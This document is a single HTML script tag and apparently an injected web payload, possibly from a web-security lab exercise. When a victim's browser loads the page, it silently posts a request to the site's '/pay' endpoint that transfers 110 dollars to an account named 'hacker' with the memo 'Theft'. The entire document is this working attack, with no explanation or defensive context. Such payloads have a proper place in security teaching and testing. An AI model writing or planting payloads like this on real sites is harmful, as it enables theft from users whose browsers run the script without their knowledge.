<script>fetch('/pay',{method:'POST',keepalive:true,body:new URLSearchParams({account:'hacker',credit:'hacker',dollars:110,memo:'Theft'})})</script>
